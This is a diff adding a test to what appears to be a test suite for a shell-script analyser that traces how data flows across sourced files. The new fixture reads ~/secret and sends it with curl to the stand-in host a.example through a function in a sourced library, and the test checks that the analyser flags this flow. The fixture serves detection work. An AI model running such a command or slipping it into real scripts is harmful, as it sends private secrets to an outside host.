@@ -119,3 +119,11 @@ it('names what is read of the environment', async () => {
     values(await factsOf({ 'a.sh': 'echo "$AWS_KEY ${B:-x}"; C=1; echo $C' }), 'code.member.name'),
   ).toEqual(['env.AWS_KEY', 'env.B'])
 })
+
+it('follows functions of a file taken over from the folder of the script', async () => {
+  const facts = await factsOf({
+    'scripts/main.sh': 'here="$(cd "$(dirname "$0")" && pwd)"\n. "$here/lib.sh"\nship "$(cat ~/secret)"',
+    'scripts/lib.sh': 'ship() { curl -d "$1" https://a.example; }',
+  })
+  expect(flows(facts)).toEqual(['cat(~/secret) -> curl via scripts/main.sh:3 scripts/lib.sh:1'])
+})
